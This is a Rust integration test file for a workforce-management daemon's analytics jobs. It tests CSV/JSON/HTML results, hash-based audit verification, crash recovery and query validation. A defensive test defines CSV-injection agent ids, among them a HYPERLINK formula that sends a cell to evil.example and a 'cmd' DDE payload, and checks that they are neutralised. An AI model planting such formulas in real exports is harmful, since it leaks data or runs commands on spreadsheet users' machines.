//! Analytics jobs over wfmd's own history, through the HTTP API.

use std::time::Duration;
use wfmd::on;

use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use wfmd::engine::analytics::{self, AnalyticsJobs};

use wfmd::sim::SimConfig;

use crate::helpers::{
    DEADLINE, Daemon, TestApp, TestDb, TestSim, accepted_job_id, eventually, eventually_within,
    http_client, wfmd,
};

fn window() -> (String, String) {
    let now = chrono::Utc::now();
    (
        wfmd::time::rfc3339(now - chrono::Duration::hours(2)),
        wfmd::time::rfc3339(now + chrono::Duration::hours(1)),
    )
}

async fn submit(app: &TestApp, body: Value) -> reqwest::Response {
    app.http
        .post(format!("{}/v1/analytics/queries", app.address))
        .json(&body)
        .send()
        .await
        .unwrap()
}

/// Submits `body` (answered 202) and polls the job until it finished: its id and the job.
async fn finished_job(app: &TestApp, body: Value) -> (String, Value) {
    let response = submit(app, body).await;
    let job_id = accepted_job_id(response).await;
    let job = until_finished(app, &job_id).await;
    (job_id, job)
}

/// Polls the job until it is completed or failed (within [`DEADLINE`]).
pub async fn until_finished(app: &TestApp, job_id: &str) -> Value {
    eventually("job never finished", || async {
        let job: Value = app
            .get(&format!("/v1/analytics/queries/{job_id}"))
            .await
            .json()
            .await
            .unwrap();
        finished(job)
    })
    .await
}

/// The job when it is completed or failed, else what it is.
fn finished(job: Value) -> Result<Value, String> {
    if matches!(job["status"].as_str(), Some("completed" | "failed")) {
        Ok(job)
    } else {
        Err(job.to_string())
    }
}

/// Kills `daemon` while it runs job `job_id`, starts wfmd again on `env` and polls the
/// job until it finished (within `within`): the new daemon and the job.
pub async fn finished_after_kill_and_restart(
    daemon: Daemon,
    env: &[(String, String)],
    job_id: &str,
    within: Duration,
) -> (Daemon, Value) {
    daemon.signal("KILL");
    assert!(!daemon.wait().await.success());
    let daemon = Daemon::spawn(env).await;
    let http = http_client();
    let job = eventually_within(within, "never finished", || async {
        let job: Value = http
            .get(format!("{}/v1/analytics/queries/{job_id}", daemon.address))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        finished(job)
    })
    .await;
    (daemon, job)
}

async fn report_ready_events(app: &TestApp, job_id: &str) -> i64 {
    on!(app.store.reader(), |c| sqlx::query_scalar(
        "SELECT COUNT(*) FROM outbox_events WHERE event_type = 'report.ready'
         AND json_extract(payload, '$.data.job_id') = $1",
    )
    .bind(job_id)
    .fetch_one(c)
    .await)
    .unwrap()
}

#[tokio::test]
async fn a_history_job_completes_announces_itself_once_and_its_csv_verifies() {
    let app = TestApp::spawn().await;
    let agents: Vec<String> = app
        .sim
        .free_agents()
        .into_iter()
        .take(3)
        .map(|a| a.id)
        .collect();
    for agent in &agents {
        let (status, _) = app.set_state(agent, "NOT_READY").await;
        assert_eq!(status, 200);
    }
    let (from, to) = window();
    let (job_id, job) = finished_job(
        &app,
        json!({"source": "history", "metrics": ["transitions:sum", "idle_seconds:sum"],
               "dimensions": ["agent"], "from": from, "to": to, "bucket": "hour"}),
    )
    .await;
    assert_eq!(job["status"], "completed", "{job}");

    let response = app
        .get(&format!(
            "/v1/analytics/queries/{job_id}/results?format=csv"
        ))
        .await;
    // The audited CSV stays as it was; what its columns mean is a link away.
    let link = response.headers()["link"].to_str().unwrap().to_owned();
    let target = link
        .strip_prefix('<')
        .and_then(|l| l.strip_suffix(">; rel=\"describedby\""))
        .unwrap_or_else(|| panic!("{link}"));
    let target = response.url().join(target).unwrap();
    assert_eq!(target.path(), "/v1/reports/definitions", "{target}");
    let csv = response.bytes().await.unwrap();
    let definitions = app
        .http
        .get(target)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        definitions.starts_with("term,label,definition,unit,time_zone\n")
            && definitions.contains("\nidle_seconds,")
            && definitions.contains("In-adherence time ÷ scheduled time × 100"),
        "{definitions}"
    );
    let text = String::from_utf8(csv.to_vec()).unwrap();
    assert!(text.starts_with(
        "bucket,agent,metric,value,moving_average,direction,z_score,anomaly,baseline,spread\n"
    ));
    for agent in &agents {
        assert!(
            text.lines()
                .any(|l| l.contains(agent) && l.contains("transitions:sum,1,")),
            "{agent} made one transition: {text}"
        );
    }
    assert_eq!(
        job["sha256"].as_str().unwrap(),
        hex::encode(Sha256::digest(&csv))
    );
    assert_eq!(
        job["rows"].as_i64().unwrap() as usize,
        text.lines().count() - 1
    );
    assert_eq!(report_ready_events(&app, &job_id).await, 1);

    // The audit log vouches for the download; a one-byte edit is caught.
    assert!(
        analytics::verify_file(&app.store, &job_id, &csv)
            .await
            .unwrap()
    );
    let mut edited = csv.to_vec();
    let last_digit = edited.iter().rposition(u8::is_ascii_digit).unwrap();
    edited[last_digit] = if edited[last_digit] == b'9' {
        b'8'
    } else {
        edited[last_digit] + 1
    };
    assert!(
        !analytics::verify_file(&app.store, &job_id, &edited)
            .await
            .unwrap()
    );

    let json: Value = app
        .get(&format!(
            "/v1/analytics/queries/{job_id}/results?format=json"
        ))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(json["job_id"], job_id.as_str());
    assert!(json["series"].as_array().unwrap().len() >= agents.len() * 2);
    assert_eq!(json["definitions"]["of"], "analytics", "{json}");

    // One self-contained page: a chart per series, time labels in the asked zone.
    let response = app
        .get(&format!(
            "/v1/analytics/queries/{job_id}/results?format=html&tz=Asia/Kolkata"
        ))
        .await;
    assert!(
        response.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/html")
    );
    let html = response.text().await.unwrap();
    assert!(html.starts_with("<!doctype html>") && html.trim_end().ends_with("</html>"));
    assert!(html.matches("<svg").count() >= agents.len() * 2, "{html}");
    assert!(html.contains(" IST<"), "labels in Kolkata time: {html}");
    assert!(
        html.contains("<h2>Definitions</h2>") && html.contains("Times are written in Asia/Kolkata"),
        "the page ends with its definitions"
    );
    assert!(
        !html.contains("<script") && !html.contains("<link"),
        "nothing fetched from elsewhere"
    );
    let bad_zone = app
        .get(&format!(
            "/v1/analytics/queries/{job_id}/results?format=html&tz=Mars/Olympus"
        ))
        .await;
    assert_eq!(bad_zone.status(), 400);
    app.stop().await;
}

/// Agent ids a spreadsheet would run as formulas (OWASP's CSV injection examples).
const FORMULA_IDS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\tSUM(1)",
    "\r=1+1",
];

async fn results_csv(app: &TestApp, job_id: &str) -> Vec<u8> {
    let response = app
        .get(&format!(
            "/v1/analytics/queries/{job_id}/results?format=csv"
        ))
        .await;
    assert_eq!(response.status(), 200);
    response.bytes().await.unwrap().to_vec()
}

#[tokio::test]
async fn formula_agent_ids_are_neutralised_in_new_csvs_while_a_job_hashed_before_still_verifies() {
    use wfmd::domain::{AgentState, Origin};
    use wfmd::store::history::{self, NewInterval};
    let app = TestApp::spawn().await;
    let mut tx = app.store.begin_write().await.unwrap();
    for id in FORMULA_IDS {
        history::switch_state(
            &mut tx,
            &NewInterval {
                agent_id: id,
                state: AgentState::Idle,
                reason: None,
                origin: Origin::Observed,
                at: chrono::Utc::now() - chrono::Duration::minutes(30),
                attempt_id: None,
            },
        )
        .await
        .unwrap();
    }
    tx.commit().await.unwrap();
    let (from, to) = window();
    let response = submit(
        &app,
        json!({"source": "history", "metrics": ["idle_seconds:sum"], "dimensions": ["agent"],
               "from": from, "to": to, "bucket": "hour"}),
    )
    .await;
    let new_job = accepted_job_id(response).await;
    assert_eq!(until_finished(&app, &new_job).await["status"], "completed");
    let csv = results_csv(&app, &new_job).await;
    let text = String::from_utf8(csv.clone()).unwrap();
    let agents: Vec<String> = csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|row| row.unwrap()[1].to_owned())
        .collect();
    for id in FORMULA_IDS {
        assert!(
            agents.contains(&format!("'{id}")),
            "{id:?} not neutralised: {text}"
        );
    }
    assert!(
        analytics::verify_file(&app.store, &new_job, &csv)
            .await
            .unwrap()
    );

    // A job completed before CSVs were neutralised, stored as that code did: the same
    // rows, hashed over their cells as they are, without the baseline and spread of
    // later jobs (empty here: three hours are too few to judge), and a query that
    // names no detector.
    let old_csv: String = text
        .replace(",'", ",")
        .replace(",\"'", ",\"")
        .lines()
        .map(|line| {
            let line = line
                .strip_suffix(",baseline,spread")
                .or_else(|| line.strip_suffix(",,"))
                .unwrap_or_else(|| panic!("{line:?} ends with empty baseline and spread"));
            format!("{line}\n")
        })
        .collect();
    assert_ne!(old_csv, text);
    let sha256 = hex::encode(Sha256::digest(old_csv.as_bytes()));
    let old_job = "aq_before_neutralising";
    let mut tx = app.store.begin_write().await.unwrap();
    on!(tx, |c| sqlx::query(
        "INSERT INTO analytics_jobs (id, source, spec, actor, created_at)
         SELECT $1, source, json_remove(spec, '$.detector'), actor, created_at
         FROM analytics_jobs WHERE id = $2",
    )
    .bind(old_job)
    .bind(&new_job)
    .execute(c)
    .await
    .map(wfmd::store::Done::from))
    .unwrap();
    on!(tx, |c| sqlx::query(
        "INSERT INTO analytics_results (job_id, series, bucket, vals)
         SELECT $1, series, bucket, vals FROM analytics_results WHERE job_id = $2",
    )
    .bind(old_job)
    .bind(&new_job)
    .execute(c)
    .await
    .map(wfmd::store::Done::from))
    .unwrap();
    on!(tx, |c| sqlx::query(
        "UPDATE analytics_jobs SET status = 'completed', rows = $2, sha256 = $3,
             finished_at = $4, error = NULL
         WHERE id = $1 AND status IN ('queued', 'running')",
    )
    .bind(old_job)
    .bind(agents.len() as i64)
    .bind(&sha256)
    .bind(wfmd::store::to_ms(chrono::Utc::now()))
    .execute(c)
    .await
    .map(wfmd::store::Done::from))
    .unwrap();
    wfmd::store::audit::append(
        &mut tx,
        &wfmd::store::audit::NewEntry {
            at: chrono::Utc::now(),
            actor: "api",
            action: analytics::AUDIT_COMPLETED,
            agent_id: None,
            subject_id: Some(old_job),
            detail: json!({"job_id": old_job, "rows": agents.len(), "sha256": sha256}),
        },
    )
    .await
    .unwrap();
    tx.commit().await.unwrap();

    let downloaded = results_csv(&app, old_job).await;
    assert_eq!(
        String::from_utf8(downloaded.clone()).unwrap(),
        old_csv,
        "an old job downloads as it was hashed"
    );
    assert!(
        analytics::verify_file(&app.store, old_job, &downloaded)
            .await
            .unwrap()
    );
    app.stop().await;
}

#[tokio::test]
async fn an_interrupted_job_is_redone_from_scratch_and_announced_once() {
    let app = TestApp::spawn().await;
    let agent = app.sim.free_agents()[0].id.clone();
    assert_eq!(app.set_state(&agent, "NOT_READY").await.0, 200);
    let (from, to) = window();
    // A job a crash left running with a stray half-stored row.
    let spec = json!({"source": "history", "metrics": [{"name": "transitions", "aggregation": "sum"}],
        "dimensions": ["agent"], "filters": [], "from": from, "to": to, "bucket": "hour",
        "window": 7, "z": 2.0, "seasonality": "none"});
    on!(app.store.reader(), |c| sqlx::query(
        "INSERT INTO analytics_jobs (id, source, spec, actor, status, received, created_at, started_at)
         VALUES ('aq_crashed', 'history', $1, 'test', 'running', 1, 0, 0)",
    )
    .bind(spec.to_string())
    .execute(c)
    .await.map(wfmd::store::Done::from))
    .unwrap();
    on!(app.store.reader(), |c| sqlx::query(
        "INSERT INTO analytics_results (job_id, series, bucket, vals)
         VALUES ('aq_crashed', '{\"agent\":\"ghost\"}', 0, '[99]')",
    )
    .execute(c)
    .await
    .map(wfmd::store::Done::from))
    .unwrap();

    // A restarted service picks it up (the running app's may too: either finishes it).
    let restarted = AnalyticsJobs::new(
        app.store.clone(),
        wfmd::engine::compliance::JudgingHandle::new(
            wfmd::domain::adherence_rules::Judging::builtin(chrono::TimeDelta::minutes(2)),
        ),
    );
    restarted.run_pending().await.unwrap();
    let job = until_finished(&app, "aq_crashed").await;
    assert_eq!(job["status"], "completed", "{job}");
    restarted.run_pending().await.unwrap();

    let csv = app
        .get("/v1/analytics/queries/aq_crashed/results")
        .await
        .text()
        .await
        .unwrap();
    assert!(!csv.contains("ghost"), "the stray row was dropped: {csv}");
    assert!(csv.contains(&agent));
    assert_eq!(report_ready_events(&app, "aq_crashed").await, 1);
    app.stop().await;
}

/// The CSV of a completed job stored before the robust detector (its query has no
/// `detector`), byte for byte as wfmd rendered it then (taken from the code before
/// #34): its SHA-256 is in the audit log, so it must never change.
const STORED_BEFORE_34_CSV: &str = concat!(
    "bucket,agent,metric,value,moving_average,direction,z_score,anomaly\n",
    "2026-10-01T00:00:00.000Z,u_001,transitions:sum,10,,,,\n",
    "2026-10-02T00:00:00.000Z,u_001,transitions:sum,12,,,,\n",
    "2026-10-03T00:00:00.000Z,u_001,transitions:sum,11,,,,\n",
    "2026-10-04T00:00:00.000Z,u_001,transitions:sum,13,11.5,,,\n",
    "2026-10-05T00:00:00.000Z,u_001,transitions:sum,10,11.5,FLAT,-1.3416407864998738,\n",
    "2026-10-06T00:00:00.000Z,u_001,transitions:sum,12,11.5,FLAT,0.4472135954999579,\n",
    "2026-10-07T00:00:00.000Z,u_001,transitions:sum,11,11.5,FLAT,-0.4472135954999579,\n",
    "2026-10-08T00:00:00.000Z,u_001,transitions:sum,13,11.5,FLAT,1.3416407864998738,\n",
    "2026-10-09T00:00:00.000Z,u_001,transitions:sum,10,11.5,FLAT,-1.3416407864998738,\n",
    "2026-10-10T00:00:00.000Z,u_001,transitions:sum,12,11.5,FLAT,0.4472135954999579,\n",
    "2026-10-11T00:00:00.000Z,u_001,transitions:sum,11,11.5,FLAT,-0.4472135954999579,\n",
    "2026-10-12T00:00:00.000Z,u_001,transitions:sum,13,11.5,FLAT,1.3416407864998738,\n",
    "2026-10-13T00:00:00.000Z,u_001,transitions:sum,40,19,UP,25.4911749434976,SPIKE\n",
    "2026-10-14T00:00:00.000Z,u_001,transitions:sum,12,19,FLAT,-0.5763708787148328,\n",
    "2026-10-15T00:00:00.000Z,u_001,transitions:sum,11,19,FLAT,-0.6587095756740946,\n",
    "2026-10-16T00:00:00.000Z,u_001,transitions:sum,13,19,FLAT,-0.49403218175557095,\n",
    "2026-10-17T00:00:00.000Z,u_001,transitions:sum,10,11.5,DOWN,-0.7410482726333565,\n",
    "2026-10-18T00:00:00.000Z,u_001,transitions:sum,12,11.5,FLAT,0.4472135954999579,\n",
    "2026-10-19T00:00:00.000Z,u_001,transitions:sum,11,11.5,FLAT,-0.4472135954999579,\n",
    "2026-10-20T00:00:00.000Z,u_001,transitions:sum,13,11.5,FLAT,1.3416407864998738,\n",
);

#[tokio::test]
async fn a_job_stored_before_the_robust_detector_renders_the_same_csv_it_always_did() {
    let app = TestApp::spawn().await;
    let spec = json!({"source": "history",
        "metrics": [{"name": "transitions", "aggregation": "sum"}],
        "dimensions": ["agent"], "filters": [],
        "from": "2026-10-01T00:00:00.000Z", "to": "2026-10-21T00:00:00.000Z",
        "bucket": "day", "window": 4, "z": 2.0, "seasonality": "none"});
    on!(app.store.reader(), |c| sqlx::query(
        "INSERT INTO analytics_jobs (id, source, spec, actor, status, received, rows,
                                     created_at, started_at, finished_at)
         VALUES ('aq_before', 'history', $1, 'test', 'completed', 20, 20, 0, 0, 0)",
    )
    .bind(spec.to_string())
    .execute(c)
    .await
    .map(wfmd::store::Done::from))
    .unwrap();
    let day_ms = 86_400_000i64;
    let first = wfmd::time::parse_instant("2026-10-01")
        .unwrap()
        .timestamp_millis();
    for day in 0..20i64 {
        let value = match day {
            12 => 40.0,
            _ => [10.0, 12.0, 11.0, 13.0][day as usize % 4],
        };
        on!(app.store.reader(), |c| sqlx::query(
            "INSERT INTO analytics_results (job_id, series, bucket, vals)
             VALUES ('aq_before', '{\"agent\":\"u_001\"}', $1, $2)",
        )
        .bind(first + day * day_ms)
        .bind(format!("[{value}]"))
        .execute(c)
        .await
        .map(wfmd::store::Done::from))
        .unwrap();
    }
    let csv = app
        .get("/v1/analytics/queries/aq_before/results?format=csv")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(csv, STORED_BEFORE_34_CSV);
    app.stop().await;
}

#[tokio::test]
async fn invalid_queries_are_refused_naming_the_field_and_store_nothing() {
    let app = TestApp::spawn().await;
    let (from, to) = window();
    for (body, field) in [
        (
            json!({"source": "history", "metrics": ["handle_time:avg"], "from": from, "to": to, "bucket": "day"}),
            "metrics",
        ),
        (
            json!({"source": "history", "metrics": ["idle_seconds:median"], "from": from, "to": to, "bucket": "day"}),
            "metrics",
        ),
        (
            json!({"source": "history", "metrics": ["idle_seconds:sum"], "dimensions": ["skill"], "from": from, "to": to, "bucket": "day"}),
            "dimensions",
        ),
        (
            json!({"source": "history", "metrics": ["idle_seconds:sum"], "from": "yesterday", "to": to, "bucket": "day"}),
            "from",
        ),
        (
            json!({"source": "history", "metrics": ["idle_seconds:sum"], "from": to, "to": from, "bucket": "day"}),
            "to",
        ),
        (
            json!({"source": "history", "metrics": ["idle_seconds:sum"], "from": from, "to": to, "bucket": "day", "window": 1}),
            "window",
        ),
        (
            json!({"source": "platform", "metrics": ["duration:avg"], "dimensions": ["a", "b", "c", "d", "e", "f"], "from": from, "to": to, "bucket": "day"}),
            "dimensions",
        ),
    ] {
        let response = submit(&app, body.clone()).await;
        assert_eq!(response.status(), 422, "{body}");
        let problem: Value = response.json().await.unwrap();
        assert_eq!(problem["field"], field, "{body}: {problem}");
    }
    assert_eq!(app.count("SELECT COUNT(*) FROM analytics_jobs").await, 0);
    app.stop().await;
}

#[tokio::test]
async fn a_job_accepted_before_kill_9_completes_after_restart_once_and_wfmd_analytics_verify_checks_its_file()
 {
    let sim = TestSim::start(SimConfig::default()).await;
    let db = TestDb::new();
    let env = sim.env(&db.url());
    let http = http_client();
    let daemon = Daemon::spawn(&env).await;
    // A month of hourly buckets per agent: long enough that the kill usually lands
    // mid-job; either way the restarted daemon must finish it exactly once.
    let now = chrono::Utc::now();
    let body = json!({"source": "history", "metrics": ["idle_seconds:sum", "transitions:sum"],
        "dimensions": ["agent"], "bucket": "hour",
        "from": wfmd::time::rfc3339(now - chrono::Duration::days(30)),
        "to": wfmd::time::rfc3339(now)});
    let response = http
        .post(format!("{}/v1/analytics/queries", daemon.address))
        .json(&body)
        .send()
        .await
        .unwrap();
    let job_id = accepted_job_id(response).await;
    let (daemon, job) = finished_after_kill_and_restart(daemon, &env, &job_id, DEADLINE * 4).await;
    assert_eq!(job["status"], "completed", "{job}");
    let csv = http
        .get(format!(
            "{}/v1/analytics/queries/{job_id}/results?format=csv",
            daemon.address
        ))
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    daemon.signal("TERM");
    assert!(daemon.wait().await.success());

    let store = wfmd::store::Store::open(&db.url()).await.unwrap();
    let announced: i64 = on!(store.reader(), |c| sqlx::query_scalar(
        "SELECT COUNT(*) FROM outbox_events WHERE event_type = 'report.ready'
         AND json_extract(payload, '$.data.job_id') = $1",
    )
    .bind(&job_id)
    .fetch_one(c)
    .await)
    .unwrap();
    assert_eq!(announced, 1);
    let audited: i64 = on!(store.reader(), |c| {
        sqlx::query_scalar(
        "SELECT COUNT(*) FROM audit_log WHERE action = 'analytics.completed' AND subject_id = $1",
    )
    .bind(&job_id)
    .fetch_one(c)
    .await
    })
    .unwrap();
    assert_eq!(audited, 1);
    store.close().await;

    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("results.csv");
    std::fs::write(&file, &csv).unwrap();
    let verify = |path: &std::path::Path| {
        wfmd()
            .envs(env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
            .args(["analytics", "verify", path.to_str().unwrap(), &job_id])
            .output()
            .unwrap()
    };
    let accepted = verify(&file);
    assert!(accepted.status.success(), "{accepted:?}");
    let mut edited = csv.to_vec();
    let at = edited.len() / 2;
    edited[at] ^= 0x01;
    let altered = folder.path().join("edited.csv");
    std::fs::write(&altered, &edited).unwrap();
    let refused = verify(&altered);
    assert_eq!(refused.status.code(), Some(1), "{refused:?}");
    assert!(String::from_utf8_lossy(&refused.stdout).contains("ALTERED"));
}

#[tokio::test]
async fn the_cli_runs_a_history_query_through_the_daemon_and_prints_its_results() {
    let app = TestApp::spawn().await;
    let agent = app.sim.free_agents().remove(0).id;
    assert_eq!(app.set_state(&agent, "NOT_READY").await.0, 200);
    let (from, to) = window();
    let query = |metric: &str| {
        let mut cli = wfmd();
        cli.args(["analytics", "query", "--history", "--metric", metric])
            .args(["--dimension", "agent", "--bucket", "hour"])
            .args(["--from", &from, "--to", &to, "--server", &app.address]);
        // Off the test's runtime thread, which serves the daemon the CLI talks to.
        tokio::task::spawn_blocking(move || cli.output().unwrap())
    };

    let done = query("transitions:sum").await.unwrap();
    let stdout = String::from_utf8_lossy(&done.stdout);
    assert!(done.status.success(), "{done:?}");
    assert!(stdout.contains("transitions"), "{stdout}");
    assert!(stdout.contains(&agent), "{stdout}");

    let refused = query("nonsense:sum").await.unwrap();
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert_eq!(refused.status.code(), Some(2), "{refused:?}");
    assert!(stderr.contains("the daemon refused"), "{stderr}");
    app.stop().await;
}

#[tokio::test]
async fn results_by_team_name_each_team_in_html_and_json_and_the_csv_keeps_its_ids() {
    let app = crate::reports::spawn_named(crate::helpers::Dialect::V2, |_| {}).await;
    let moved: Vec<_> = app.sim.free_agents().into_iter().take(6).collect();
    for agent in &moved {
        let (status, body) = app.set_state(&agent.id, "NOT_READY").await;
        assert!(status == 200 || status == 409, "{body}");
    }
    let (from, to) = window();
    let (job_id, job) = finished_job(
        &app,
        json!({"source": "history", "metrics": ["transitions:sum"],
               "dimensions": ["team"], "from": from, "to": to, "bucket": "hour"}),
    )
    .await;
    assert_eq!(job["status"], "completed", "{job}");
    let (team_id, team_name) = (&moved[0].team_id, &moved[0].team_name);
    assert_ne!(team_id, team_name);

    let results = format!("/v1/analytics/queries/{job_id}/results");
    let html = app
        .get(&format!("{results}?format=html"))
        .await
        .text()
        .await
        .unwrap();
    assert!(
        html.contains(&format!("team {team_name} ({team_id})")),
        "{html}"
    );
    assert!(
        !html.contains(&format!("team {team_id} ")),
        "no series titled by the team's id: {html}"
    );

    let json: Value = app
        .get(&format!("{results}?format=json"))
        .await
        .json()
        .await
        .unwrap();
    let series = json["series"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["dimensions"]["team"] == team_id.as_str())
        .unwrap_or_else(|| panic!("{json}"));
    assert_eq!(series["names"]["team"], team_name.as_str(), "{series}");

    // The audited CSV is as it was: ids, and its hash still holds.
    let csv = app
        .get(&format!("{results}?format=csv"))
        .await
        .bytes()
        .await
        .unwrap();
    let text = String::from_utf8(csv.to_vec()).unwrap();
    assert!(text.starts_with("bucket,team,metric,"), "{text}");
    assert!(text.contains(&format!(",{team_id},")) && !text.contains(team_name.as_str()));
    assert_eq!(
        job["sha256"].as_str().unwrap(),
        hex::encode(Sha256::digest(&csv))
    );
}
